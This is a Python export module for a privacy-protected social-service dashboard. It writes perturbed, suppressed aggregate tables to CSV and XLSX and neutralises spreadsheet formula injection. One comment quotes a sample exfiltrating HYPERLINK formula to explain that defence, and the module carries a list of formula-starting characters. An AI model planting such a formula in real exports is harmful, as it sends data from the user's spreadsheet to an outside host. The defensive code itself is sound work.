"""The evaluation figures as rows for CSV and XLSX: labels, not codes, and every figure
already perturbed and suppressed. No note, no person code, no record id can be in them:
they are built from the dashboard's aggregates only."""

from __future__ import annotations

import csv
import io

from flask_babel import gettext as _
from openpyxl import Workbook
from openpyxl.styles import Font

from .. import vocab
from ..formats import format_date, format_decimal
from . import perturbation
from .dashboard import Dashboard
from .suppression import Table

TABLES = ("indicators", "theme_month", "situation_neighbourhood", "outcome_category")


def table_title(name: str) -> str:
    return {
        "indicators": _("Indicateurs"),
        "theme_month": _("Thèmes par mois (personnes)"),
        "situation_neighbourhood": _("Situations par quartier (personnes)"),
        "outcome_category": _("Issues des orientations par catégorie de service"),
    }[name]


def suppression_note(k: int) -> str:
    """What every print and export says of its figures (they are always perturbed)."""
    return _("Pour que personne ne soit reconnaissable, les chiffres sont légèrement perturbés "
             "(de %(d)d au plus) et les nombres de 1 à %(max)d sont remplacés par « <%(k)d ».",
             d=perturbation.table().max_noise, max=k - 1, k=k)


def _figure(cell, k: int):
    return cell.shown(k) if cell.suppressed else cell.value


def indicator_rows(dashboard: Dashboard) -> list[list]:
    k = dashboard.k
    header = [_("Plan"), _("Objectif"), _("Code"), _("Indicateur"), _("Valeur"),
              _("Même période un an avant"), _("Cible")]
    rows = [header]
    for plan in dashboard.plans:
        for block in plan.objectives:
            for figure in block.figures:
                rows.append([plan.plan, block.objective.code, figure.indicator.code,
                             figure.indicator.label(), _figure(figure.current, k),
                             _figure(figure.previous, k),
                             block.objective.target if block.objective.target is not None
                             else ""])
    return rows


def _labels(vocabulary: str) -> dict:
    return vocab.labels_for(vocabulary)


def table_rows(table: Table, row_label, col_label, corner: str) -> list[list]:
    k = table.k
    rows = [[corner] + [col_label(c) for c in table.col_keys] + [_("Total")]]
    for key, cells, total in table.rows():
        rows.append([row_label(key)] + [_figure(c, k) for c in cells] + [_figure(total, k)])
    rows.append([_("Total")] + [_figure(c, k) for c in table.col_totals] +
                [_figure(table.total, k)])
    return rows


def rows_for(dashboard: Dashboard, name: str) -> list[list]:
    if name == "indicators":
        return indicator_rows(dashboard)
    if name == "theme_month":
        themes = _labels("theme")
        return table_rows(dashboard.theme_month, lambda c: themes.get(c, c),
                          lambda m: format_date(m.start, "LLL y"), _("Thème"))
    if name == "situation_neighbourhood":
        situations = _labels("situation")
        return table_rows(dashboard.situation_neighbourhood, lambda c: situations.get(c, c),
                          lambda n: n.name, _("Situation"))
    if name == "outcome_category":
        outcomes = {**_labels("referral_outcome"), "en_cours": _("En cours")}
        categories = {**_labels("org_category"), "": _("Sans catégorie")}
        return table_rows(dashboard.outcome_category, lambda c: outcomes.get(c, c),
                          lambda c: categories.get(c, c), _("Issue"))
    raise KeyError(name)


# A text cell beginning with one of these is a formula (or becomes one) in a spreadsheet:
# `=HYPERLINK("https://…/?d="&E5,"Voir")` typed as an indicator label would run on the
# coordinator's computer and could send the figures beside it away (OWASP "CSV injection").
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(value):
    """A text cell as text that no spreadsheet evaluates: a leading apostrophe, which
    spreadsheets read as "this is text" (numbers stay numbers)."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def _local(value):
    """A decimal figure as the reader's language writes it (12,5 in French and Dutch): a
    CSV is text, and a spreadsheet reads it with its own separator (the XLSX keeps numbers)."""
    return format_decimal(value, "0.##") if isinstance(value, float) else value


def to_csv(rows: list[list]) -> bytes:
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=";")  # what a Belgian spreadsheet opens as columns
    writer.writerows([inert(_local(value)) for value in row] for row in rows)
    return ("\ufeff" + buffer.getvalue()).encode("utf-8")  # BOM: accents open right in Excel


def to_xlsx(dashboard: Dashboard, heading: str) -> bytes:
    workbook = Workbook()
    workbook.remove(workbook.active)
    for name in TABLES:
        sheet = workbook.create_sheet(table_title(name)[:31])
        _append(sheet, [heading])
        sheet["A1"].font = Font(bold=True)
        _append(sheet, [suppression_note(dashboard.k)])
        sheet.append([])
        for index, row in enumerate(rows_for(dashboard, name)):
            _append(sheet, row)
            if index == 0:
                for cell in sheet[sheet.max_row]:
                    cell.font = Font(bold=True)
        sheet.column_dimensions["A"].width = 48
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _append(sheet, row: list) -> None:
    """Append a row whose text cells are typed as strings: openpyxl would otherwise store a
    text beginning with "=" as a formula."""
    sheet.append(row)
    for cell in sheet[sheet.max_row]:
        if isinstance(cell.value, str):
            cell.value = inert(cell.value)
            cell.data_type = "s"
